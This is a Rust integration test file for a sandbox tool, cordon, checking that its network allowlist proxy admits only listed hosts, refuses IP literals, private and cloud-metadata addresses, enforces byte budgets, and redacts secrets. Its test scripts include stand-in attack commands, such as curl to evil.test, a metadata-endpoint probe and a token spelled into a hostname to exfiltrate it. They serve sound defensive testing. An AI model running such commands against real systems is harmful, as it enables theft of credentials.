//! Network by allowlist (issue 18), through the real `cordon run` and the real sandbox: the
//! program reaches listed hosts through cordon's proxy and nothing else.
//!
//! The "internet" here is a server on the host's loopback. Two test-only hooks make that
//! possible (`cordon-proxy/src/hooks.rs`): names resolved without DNS, and loopback
//! destinations permitted. They exist only in test builds and only with
//! `CORDON_TEST_NETWORK_HOOKS` in cordon's own environment.

use std::collections::HashMap;
use std::io::{Read, Write};
use std::net::TcpListener;
use std::sync::{Arc, Mutex};

use cordon_types::{NetworkLimit, NetworkMode};

use crate::sandboxed::{self, Ran, Work, require_sandbox};
use crate::support::git;

/// An HTTP origin on the host's loopback serving `files` (path -> body), one request per
/// connection; remembers the request lines it saw.
struct Origin {
    port: u16,
    seen: Arc<Mutex<Vec<String>>>,
}

impl Origin {
    fn serve(files: HashMap<String, Vec<u8>>) -> Origin {
        Origin::serve_for(|_| files)
    }

    /// Like [`Origin::serve`], with content that names the origin's port.
    fn serve_for(make: impl FnOnce(u16) -> HashMap<String, Vec<u8>>) -> Origin {
        let listener = TcpListener::bind("127.0.0.1:0").unwrap();
        let port = listener.local_addr().unwrap().port();
        let files = make(port);
        let seen = Arc::new(Mutex::new(Vec::new()));
        let log = seen.clone();
        std::thread::spawn(move || {
            for stream in listener.incoming() {
                let Ok(mut stream) = stream else { continue };
                let mut head = Vec::new();
                let mut byte = [0u8; 1];
                while !head.ends_with(b"\r\n\r\n") {
                    match stream.read(&mut byte) {
                        Ok(1) => head.push(byte[0]),
                        _ => break,
                    }
                }
                let head = String::from_utf8_lossy(&head).into_owned();
                let line = head.lines().next().unwrap_or_default().to_owned();
                log.lock().unwrap().push(line.clone());
                let path = line.split(' ').nth(1).unwrap_or_default();
                let answer = match files.get(path) {
                    Some(body) => {
                        let kind = if path.ends_with('/') {
                            "text/html"
                        } else {
                            "application/octet-stream"
                        };
                        let mut a = format!(
                            "HTTP/1.1 200 OK\r\nContent-Type: {kind}\r\nContent-Length: {}\r\nConnection: close\r\n\r\n",
                            body.len()
                        )
                        .into_bytes();
                        a.extend_from_slice(body);
                        a
                    }
                    None => {
                        b"HTTP/1.1 404 Not Found\r\nContent-Length: 0\r\nConnection: close\r\n\r\n"
                            .to_vec()
                    }
                };
                let _ = stream.write_all(&answer);
            }
        });
        Origin { port, seen }
    }

    fn requests(&self) -> Vec<String> {
        self.seen.lock().unwrap().clone()
    }
}

fn hooks(names: &[(&str, &str)]) -> String {
    let mut text = String::from("loopback");
    for (name, ip) in names {
        text.push_str(&format!(";{name}={ip}"));
    }
    text
}

fn run(flags: &[&str], script: &str, names: &[(&str, &str)]) -> Ran {
    let w = Work::new();
    let hooks = hooks(names);
    w.run_env(flags, script, &[("CORDON_TEST_NETWORK_HOOKS", &hooks)])
}

fn files(entries: &[(&str, &[u8])]) -> HashMap<String, Vec<u8>> {
    entries
        .iter()
        .map(|(p, b)| (p.to_string(), b.to_vec()))
        .collect()
}

#[test]
fn an_allowed_host_is_reached_by_plain_http_and_by_connect() {
    require_sandbox!();
    let o = Origin::serve(files(&[("/hello", b"hello from origin")]));
    let allow = format!("--network=allow=origin.test:{}", o.port);
    let script = format!(
        "curl -sS http://origin.test:{0}/hello; echo; curl -sS --proxytunnel http://origin.test:{0}/hello",
        o.port
    );
    let ran = run(&[&allow], &script, &[("origin.test", "127.0.0.1")]);
    sandboxed::assert_passed(&ran);
    assert_eq!(
        ran.stdout(),
        "hello from origin\nhello from origin",
        "{ran:#?}"
    );
    assert_eq!(o.requests(), ["GET /hello HTTP/1.1", "GET /hello HTTP/1.1"]);
    assert_eq!(ran.result.sandbox.network, NetworkMode::Allowlist);
    assert!(ran.result.sandbox.namespaces.contains(&"net".to_string()));
    let network = ran.result.network.expect("a network report");
    assert_eq!(network.mode, NetworkMode::Allowlist);
    assert_eq!(network.allow, [format!("origin.test:{}", o.port)]);
    assert!(network.denied.is_empty(), "{network:?}");
    assert_eq!(network.allowed.len(), 1);
    let t = &network.allowed[0];
    assert_eq!(
        (t.host.as_str(), t.port, t.connections),
        ("origin.test", o.port, 2)
    );
    assert!(t.bytes_up > 0 && t.bytes_down > 2 * 17, "{t:?}");
}

#[test]
fn other_hosts_ip_literals_and_names_resolving_inside_are_denied_with_reasons() {
    require_sandbox!();
    let o = Origin::serve(files(&[("/secret", b"internal data")]));
    let p = o.port;
    let allow = format!("--network=allow=origin.test:{p},rebind.test:{p},meta.test");
    let script = format!(
        "for url in http://evil.test:{p}/secret http://127.0.0.1:{p}/secret \
         http://rebind.test:{p}/secret http://meta.test/latest/meta-data/; do \
         curl -sS -o /dev/null -w '%{{http_code}} ' $url; done; \
         curl -sS -o /dev/null -w '%{{http_code}}' --proxytunnel https://evil.test/ 2>/dev/null; true"
    );
    let names = [
        ("evil.test", "127.0.0.1"),
        ("rebind.test", "10.0.0.1"),
        ("meta.test", "169.254.169.254"),
    ];
    let ran = run(&[&allow], &script, &names);
    sandboxed::assert_passed(&ran);
    assert!(ran.stdout().starts_with("403 403 403 403 "), "{ran:#?}");
    assert!(o.requests().is_empty(), "nothing reached the origin");
    let network = ran.result.network.expect("a network report");
    assert!(network.allowed.is_empty(), "{network:?}");
    let denied: Vec<(String, Option<u16>, String)> = network
        .denied
        .into_iter()
        .map(|d| (d.host, d.port, d.reason))
        .collect();
    assert_eq!(
        denied,
        [
            ("evil.test".into(), Some(p), "not in the allowlist".into()),
            (
                "127.0.0.1".into(),
                Some(p),
                "an IP address, not a host name (the allowlist names hosts)".into()
            ),
            (
                "rebind.test".into(),
                Some(p),
                "resolves to a private address (10.0.0.0/8): 10.0.0.1".into()
            ),
            (
                "meta.test".into(),
                Some(80),
                "resolves to a link-local address (169.254.0.0/16, cloud metadata): 169.254.169.254"
                    .into()
            ),
            ("evil.test".into(), Some(443), "not in the allowlist".into()),
        ]
    );
}

#[test]
fn a_denied_connection_prints_one_notice_line_on_the_terminal_view() {
    require_sandbox!();
    let w = Work::new();
    let out = sandboxed::cordon()
        .env("CORDON_TEST_NETWORK_HOOKS", hooks(&[]))
        .args([
            "run",
            "--no-record",
            "--network",
            "allow=origin.test",
            "--cwd",
        ])
        .arg(w.path())
        .args(["--", "curl", "-sS", "-o", "/dev/null", "http://evil.test/"])
        .stdin(std::process::Stdio::null())
        .output()
        .unwrap();
    let stderr = String::from_utf8_lossy(&out.stderr);
    let notices: Vec<&str> = stderr
        .lines()
        .filter(|l| l.starts_with("cordon: network:"))
        .collect();
    assert_eq!(
        notices,
        ["cordon: network: denied evil.test:80 — not in the allowlist"],
        "{stderr}"
    );
}

#[test]
fn raw_connections_and_dns_have_no_way_out() {
    require_sandbox!();
    let o = Origin::serve(files(&[("/x", b"x")]));
    let script = format!(
        r#"python3 - <<'EOF'
import socket
def attempt(what, f):
    try:
        f()
        print(what, "REACHED")
    except OSError as e:
        print(what, "blocked:", e.errno)
def tcp(addr):
    s = socket.create_connection(addr, timeout=3)
    s.close()
attempt("tcp-public", lambda: tcp(("1.1.1.1", 443)))
attempt("tcp-host-loopback", lambda: tcp(("127.0.0.1", {port})))
attempt("tcp-private", lambda: tcp(("10.0.0.1", 80)))
attempt("udp-dns", lambda: socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b"x", ("8.8.8.8", 53)))
attempt("resolve", lambda: socket.getaddrinfo("example.com", 443))
EOF"#,
        port = o.port
    );
    let allow = format!("--network=allow=origin.test:{}", o.port);
    let ran = run(&[&allow], &script, &[("origin.test", "127.0.0.1")]);
    sandboxed::assert_passed(&ran);
    let out = ran.stdout();
    assert!(!out.contains("REACHED"), "{out}");
    assert_eq!(out.lines().count(), 5, "{out}");
    // No route (ENETUNREACH) for the outside; refused on the sandbox's own loopback.
    assert!(out.contains("tcp-public blocked: 101"), "{out}");
    assert!(out.contains("tcp-host-loopback blocked: 111"), "{out}");
    assert!(out.contains("tcp-private blocked: 101"), "{out}");
    assert!(out.contains("udp-dns blocked: 101"), "{out}");
    assert!(out.contains("resolve blocked:"), "{out}");
    assert!(o.requests().is_empty());
}

#[test]
fn the_byte_budget_cuts_the_download() {
    require_sandbox!();
    let big = vec![b'z'; 4 << 20];
    let o = Origin::serve(files(&[("/big", &big)]));
    let allow = format!("--network=allow=origin.test:{}", o.port);
    let script = format!(
        "curl -sS -o big http://origin.test:{}/big; echo curl=$?; wc -c < big",
        o.port
    );
    let ran = run(
        &[&allow, "--network-bytes", "64KiB"],
        &script,
        &[("origin.test", "127.0.0.1")],
    );
    let network = ran.result.network.clone().expect("a network report");
    assert_eq!(network.limits_hit, [NetworkLimit::Bytes], "{ran:#?}");
    let got: u64 = ran
        .stdout()
        .lines()
        .last()
        .and_then(|l| l.trim().parse().ok())
        .unwrap_or_else(|| panic!("{ran:#?}"));
    assert!(got > 0 && got < 64 * 1024, "{got} bytes got through");
    assert!(
        ran.stdout().starts_with("curl=18\n"),
        "a partial transfer: {ran:#?}"
    );
    let t = &network.allowed[0];
    assert!(t.bytes_up + t.bytes_down <= 64 * 1024, "{t:?}");
}

#[test]
fn pip_downloads_from_a_local_index_through_the_proxy() {
    require_sandbox!();
    let wheel = tiny_wheel();
    let index = b"<html><body><a href=\"/files/tinypkg-1.0-py3-none-any.whl\">tinypkg-1.0-py3-none-any.whl</a></body></html>";
    let o = Origin::serve(files(&[
        ("/simple/tinypkg/", index),
        ("/files/tinypkg-1.0-py3-none-any.whl", &wheel),
    ]));
    let allow = format!("--network=allow=pypi.test:{}", o.port);
    let script = format!(
        "python3 -m pip download --no-cache-dir --no-deps --disable-pip-version-check \
         --index-url http://pypi.test:{0}/simple/ --trusted-host pypi.test:{0} -d out tinypkg \
         >/dev/null 2>pip.err || cat pip.err; ls out",
        o.port
    );
    let ran = run(&[&allow], &script, &[("pypi.test", "127.0.0.1")]);
    sandboxed::assert_passed(&ran);
    assert_eq!(ran.stdout(), "tinypkg-1.0-py3-none-any.whl\n", "{ran:#?}");
    let network = ran.result.network.expect("a network report");
    assert!(network.denied.is_empty(), "{network:?}");
    assert_eq!(network.allowed[0].host, "pypi.test");
    assert!(network.allowed[0].bytes_down as usize > wheel.len());
}

/// A minimal pure-Python wheel, built by `python3`'s zipfile on the host.
fn tiny_wheel() -> Vec<u8> {
    let dir = tempfile::tempdir().unwrap();
    let path = dir.path().join("tinypkg-1.0-py3-none-any.whl");
    let script = r#"
import sys, zipfile
with zipfile.ZipFile(sys.argv[1], "w") as z:
    z.writestr("tinypkg/__init__.py", "VALUE = 1\n")
    z.writestr("tinypkg-1.0.dist-info/METADATA", "Metadata-Version: 2.1\nName: tinypkg\nVersion: 1.0\n")
    z.writestr("tinypkg-1.0.dist-info/WHEEL", "Wheel-Version: 1.0\nGenerator: cordon-test\nRoot-Is-Purelib: true\nTag: py3-none-any\n")
    z.writestr("tinypkg-1.0.dist-info/RECORD", "")
"#;
    let status = std::process::Command::new("python3")
        .args(["-c", script])
        .arg(&path)
        .status()
        .expect("python3 runs on the host");
    assert!(status.success());
    std::fs::read(path).unwrap()
}

#[test]
fn the_program_holds_neither_the_listener_nor_the_channel() {
    require_sandbox!();
    // Only the standard descriptors (plus the one `ls` opens to read the directory).
    let script = "ls /proc/self/fd | tr '\\n' ' '; \
                  python3 -c 'import socket; s=socket.socket(); s.bind((\"127.0.0.1\", 3128))' 2>&1 | tail -1";
    let ran = run(&["--network=allow=origin.test"], script, &[]);
    sandboxed::assert_passed(&ran);
    assert_eq!(
        ran.stdout(),
        "0 1 2 3 OSError: [Errno 98] Address already in use\n",
        "{ran:#?}"
    );
    // With a proxy too, the program is PID 2, in a namespace of its own, and sees no PID but
    // PID 1 and its own.
    let hooks = hooks(&[]);
    let ran = Work::new().run_env(
        &["--network=allow=origin.test"],
        sandboxed::NETNS_AND_PIDS,
        &[("CORDON_TEST_NETWORK_HOOKS", &hooks)],
    );
    assert_eq!(sandboxed::private_network_and_pid(&ran), "2", "{ran:#?}");
}

/// A git repository holding `cordon.toml` and nothing else.
fn repo_with_plan(plan: &str) -> tempfile::TempDir {
    let dir = tempfile::tempdir().unwrap();
    std::fs::write(dir.path().join("cordon.toml"), plan).unwrap();
    git(dir.path(), &["init", "-q", "-b", "main"]);
    git(dir.path(), &["add", "-A"]);
    git(dir.path(), &["commit", "-qm", "plan"]);
    dir
}

#[test]
fn a_verify_stage_with_an_allowlist_reaches_only_its_hosts_and_the_report_says_so() {
    require_sandbox!();
    let o = Origin::serve(files(&[("/dep", b"dependency")]));
    let p = o.port;
    let plan = format!(
        r#"[[stage]]
name = "fetch"
category = "setup"
run = ["sh", "-c", "curl -fsS -o /dev/null http://origin.test:{p}/dep && curl -sS -o /dev/null -w '%{{http_code}}' http://evil.test:{p}/dep"]
network = {{ allow = ["origin.test:{p}"] }}
"#
    );
    let repo = repo_with_plan(&plan);
    let home = tempfile::tempdir().unwrap();
    let out = sandboxed::cordon()
        .env("CORDON_HOME", home.path())
        .env(
            "CORDON_TEST_NETWORK_HOOKS",
            hooks(&[("origin.test", "127.0.0.1"), ("evil.test", "127.0.0.1")]),
        )
        .args(["verify", "--json", "--repo"])
        .arg(repo.path())
        .stdin(std::process::Stdio::null())
        .output()
        .unwrap();
    let stderr = String::from_utf8_lossy(&out.stderr);
    let report: cordon_types::RunReport =
        serde_json::from_slice(&out.stdout).unwrap_or_else(|e| panic!("no report ({e}): {stderr}"));
    let stage = &report.stages[0];
    assert_eq!(stage.stdout.head, "403", "{stage:#?}");
    let network = stage.network.as_ref().expect("the stage's network report");
    assert_eq!(network.allowed.len(), 1, "{network:?}");
    assert_eq!(
        (
            network.allowed[0].host.as_str(),
            network.allowed[0].connections
        ),
        ("origin.test", 1)
    );
    assert_eq!(network.denied.len(), 1, "{network:?}");
    assert_eq!(network.denied[0].host, "evil.test");
    assert_eq!(o.requests(), ["GET /dep HTTP/1.1"]);
    assert!(
        stderr.contains(&format!(
            "network: denied evil.test:{p} — not in the allowlist"
        )),
        "{stderr}"
    );
}

#[test]
fn an_invalid_allowlist_in_cordon_toml_is_refused_before_anything_runs() {
    let repo = repo_with_plan(
        "[[stage]]\nname = \"fetch\"\ncategory = \"setup\"\nrun = [\"true\"]\nnetwork = { allow = [\"10.0.0.1\"] }\n",
    );
    let home = tempfile::tempdir().unwrap();
    let out = sandboxed::cordon()
        .env("CORDON_HOME", home.path())
        .args(["verify", "--repo"])
        .arg(repo.path())
        .output()
        .unwrap();
    let stderr = String::from_utf8_lossy(&out.stderr);
    assert_eq!(out.status.code(), Some(2), "{stderr}");
    assert!(
        stderr.contains("invalid network allowlist entry \"10.0.0.1\": an IP address"),
        "{stderr}"
    );
}

#[test]
fn cargo_fetches_from_a_local_sparse_registry_through_the_proxy() {
    require_sandbox!();
    let (crate_file, cksum) = tiny_crate();
    let o = Origin::serve_for(|port| {
        let config =
            format!(r#"{{"dl":"http://crates.test:{port}/dl/{{crate}}-{{version}}.crate"}}"#);
        let entry = format!(
            r#"{{"name":"tinydep","vers":"1.0.0","deps":[],"cksum":"{cksum}","features":{{}},"yanked":false}}"#
        );
        files(&[
            ("/config.json", config.as_bytes()),
            ("/ti/ny/tinydep", entry.as_bytes()),
            ("/dl/tinydep-1.0.0.crate", &crate_file),
        ])
    });
    let w = Work::new();
    std::fs::create_dir_all(w.path().join("src")).unwrap();
    std::fs::create_dir_all(w.path().join(".cargo")).unwrap();
    std::fs::write(w.path().join("src/lib.rs"), "").unwrap();
    std::fs::write(
        w.path().join("Cargo.toml"),
        "[package]\nname = \"app\"\nversion = \"0.1.0\"\nedition = \"2021\"\n\n[dependencies]\ntinydep = { version = \"1\", registry = \"local\" }\n",
    )
    .unwrap();
    std::fs::write(
        w.path().join(".cargo/config.toml"),
        format!(
            "[registries.local]\nindex = \"sparse+http://crates.test:{}/\"\n",
            o.port
        ),
    )
    .unwrap();
    let allow = format!("--network=allow=crates.test:{}", o.port);
    let hooks = hooks(&[("crates.test", "127.0.0.1")]);
    let ran = sandboxed::run_in(
        &w.path(),
        &[&allow, "--env", "CARGO_HOME=/tmp/cargo-home"],
        &["cargo", "fetch"],
        &[("CORDON_TEST_NETWORK_HOOKS", &hooks)],
    );
    sandboxed::assert_passed(&ran);
    assert_eq!(
        o.requests(),
        [
            "GET /config.json HTTP/1.1",
            "GET /ti/ny/tinydep HTTP/1.1",
            "GET /dl/tinydep-1.0.0.crate HTTP/1.1"
        ],
        "{ran:#?}"
    );
    let lock = std::fs::read_to_string(w.path().join("Cargo.lock")).unwrap();
    assert!(lock.contains(&cksum), "{lock}");
    assert!(ran.result.network.unwrap().denied.is_empty());
}

/// A `.crate` (gzipped tar of `tinydep-1.0.0/`) and its SHA-256, made by the host's
/// `python3`.
fn tiny_crate() -> (Vec<u8>, String) {
    let dir = tempfile::tempdir().unwrap();
    let path = dir.path().join("tinydep-1.0.0.crate");
    let script = r#"
import hashlib, io, sys, tarfile
with tarfile.open(sys.argv[1], "w:gz") as t:
    for name, text in [("Cargo.toml", '[package]\nname = "tinydep"\nversion = "1.0.0"\nedition = "2021"\n'), ("src/lib.rs", "pub const X: u8 = 1;\n")]:
        data = text.encode()
        info = tarfile.TarInfo("tinydep-1.0.0/" + name)
        info.size = len(data)
        t.addfile(info, io.BytesIO(data))
print(hashlib.sha256(open(sys.argv[1], "rb").read()).hexdigest())
"#;
    let out = std::process::Command::new("python3")
        .args(["-c", script])
        .arg(&path)
        .output()
        .expect("python3 runs on the host");
    assert!(out.status.success());
    let cksum = String::from_utf8(out.stdout).unwrap().trim().to_owned();
    (std::fs::read(path).unwrap(), cksum)
}

#[test]
fn npm_installs_from_a_local_registry_through_the_proxy() {
    require_sandbox!();
    let (tarball, sha1, integrity) = tiny_npm_package();
    let o = Origin::serve_for(|port| {
        let packument = format!(
            r#"{{"name":"tinypkg","dist-tags":{{"latest":"1.0.0"}},"versions":{{"1.0.0":{{"name":"tinypkg","version":"1.0.0","dist":{{"tarball":"http://npm.test:{port}/tinypkg/-/tinypkg-1.0.0.tgz","shasum":"{sha1}","integrity":"{integrity}"}}}}}}}}"#
        );
        files(&[
            ("/tinypkg", packument.as_bytes()),
            ("/tinypkg/-/tinypkg-1.0.0.tgz", &tarball),
        ])
    });
    let w = Work::new();
    std::fs::write(
        w.path().join("package.json"),
        r#"{"name":"app","version":"1.0.0","dependencies":{"tinypkg":"1.0.0"}}"#,
    )
    .unwrap();
    let allow = format!("--network=allow=npm.test:{}", o.port);
    let registry = format!("--registry=http://npm.test:{}/", o.port);
    let hooks = hooks(&[("npm.test", "127.0.0.1")]);
    let ran = sandboxed::run_in(
        &w.path(),
        &[&allow],
        &[
            "npm",
            "install",
            "--no-audit",
            "--no-fund",
            "--ignore-scripts",
            &registry,
        ],
        &[("CORDON_TEST_NETWORK_HOOKS", &hooks)],
    );
    sandboxed::assert_passed(&ran);
    let installed = w.path().join("node_modules/tinypkg/index.js");
    assert_eq!(
        std::fs::read_to_string(installed).unwrap(),
        "module.exports = 1;\n"
    );
    // (npm also asks the registry about its own latest version: `GET /npm`.)
    let fetched: Vec<String> = o
        .requests()
        .into_iter()
        .filter(|r| r.contains("tinypkg"))
        .collect();
    assert_eq!(
        fetched,
        [
            "GET /tinypkg HTTP/1.1",
            "GET /tinypkg/-/tinypkg-1.0.0.tgz HTTP/1.1"
        ],
        "{ran:#?}"
    );
    assert!(ran.result.network.unwrap().denied.is_empty());
}

/// An npm package tarball (`package/package.json`, `package/index.js`), its SHA-1 and its
/// SHA-512 integrity string, made by the host's `python3`.
fn tiny_npm_package() -> (Vec<u8>, String, String) {
    let dir = tempfile::tempdir().unwrap();
    let path = dir.path().join("tinypkg-1.0.0.tgz");
    let script = r#"
import base64, hashlib, io, sys, tarfile
with tarfile.open(sys.argv[1], "w:gz") as t:
    for name, text in [("package.json", '{"name":"tinypkg","version":"1.0.0","main":"index.js"}\n'), ("index.js", "module.exports = 1;\n")]:
        data = text.encode()
        info = tarfile.TarInfo("package/" + name)
        info.size = len(data)
        t.addfile(info, io.BytesIO(data))
data = open(sys.argv[1], "rb").read()
print(hashlib.sha1(data).hexdigest(), "sha512-" + base64.b64encode(hashlib.sha512(data).digest()).decode())
"#;
    let out = std::process::Command::new("python3")
        .args(["-c", script])
        .arg(&path)
        .output()
        .expect("python3 runs on the host");
    assert!(out.status.success());
    let text = String::from_utf8(out.stdout).unwrap();
    let (sha1, integrity) = text.trim().split_once(' ').unwrap();
    (
        std::fs::read(path).unwrap(),
        sha1.to_owned(),
        integrity.to_owned(),
    )
}

#[test]
fn a_flood_of_refusals_is_bounded_in_the_terminal_and_counted_in_the_result() {
    require_sandbox!();
    let w = Work::new();
    let script = r#"
import socket
for i in range(130):
    s = socket.create_connection(("127.0.0.1", 3128))
    s.sendall(b"CONNECT evil%d.test:443 HTTP/1.1\r\n\r\n" % i)
    assert s.recv(100).startswith(b"HTTP/1.1 403")
    s.close()
"#;
    let out = sandboxed::cordon()
        .env("CORDON_TEST_NETWORK_HOOKS", hooks(&[]))
        .args([
            "run",
            "--no-record",
            "--network",
            "allow=origin.test",
            "--cwd",
        ])
        .arg(w.path())
        .args(["--", "python3", "-c", script])
        .stdin(std::process::Stdio::null())
        .output()
        .unwrap();
    let stderr = String::from_utf8_lossy(&out.stderr);
    assert_eq!(out.status.code(), Some(0), "{stderr}");
    let notices: Vec<&str> = stderr
        .lines()
        .filter(|l| l.starts_with("cordon: network:"))
        .collect();
    assert_eq!(notices.len(), 101, "{stderr}");
    assert_eq!(
        notices[0],
        "cordon: network: denied evil0.test:443 — not in the allowlist"
    );
    assert_eq!(
        notices[100],
        "cordon: network: further refusals are counted in the result, not shown"
    );
    let hooks = hooks(&[]);
    let ran = sandboxed::run_in(
        &w.path(),
        &["--network=allow=origin.test"],
        &["python3", "-c", script],
        &[("CORDON_TEST_NETWORK_HOOKS", &hooks)],
    );
    let network = ran.result.network.clone().expect("a network report");
    assert_eq!(
        (network.denied.len(), network.denied_omitted),
        (100, 30),
        "{ran:#?}"
    );
}

#[test]
fn a_secret_spelled_into_a_refused_host_name_is_redacted_from_the_notice_and_the_result() {
    require_sandbox!();
    let w = Work::new();
    let secret = "SeCrEt9f3a7Q";
    let out = sandboxed::cordon()
        .env("CORDON_TEST_NETWORK_HOOKS", hooks(&[]))
        .env("CORDON_NET_TOKEN", secret)
        .args([
            "run",
            "--no-record",
            "--json",
            "--secret",
            "CORDON_NET_TOKEN",
            "--network",
            "allow=origin.test",
            "--cwd",
        ])
        .arg(w.path())
        .args([
            "--",
            "sh",
            "-c",
            "curl -sS -o /dev/null http://$CORDON_NET_TOKEN.evil.test/; true",
        ])
        .stdin(std::process::Stdio::null())
        .output()
        .unwrap();
    let stdout = String::from_utf8_lossy(&out.stdout);
    let stderr = String::from_utf8_lossy(&out.stderr);
    assert!(
        !stdout.contains(secret) && !stderr.contains(secret),
        "{stdout}\n{stderr}"
    );
    let ran = sandboxed::ran(&out);
    let network = ran.result.network.expect("a network report");
    assert_eq!(network.denied.len(), 1, "{network:?}");
    assert_eq!(
        network.denied[0].host,
        "[REDACTED:CORDON_NET_TOKEN].evil.test"
    );
}
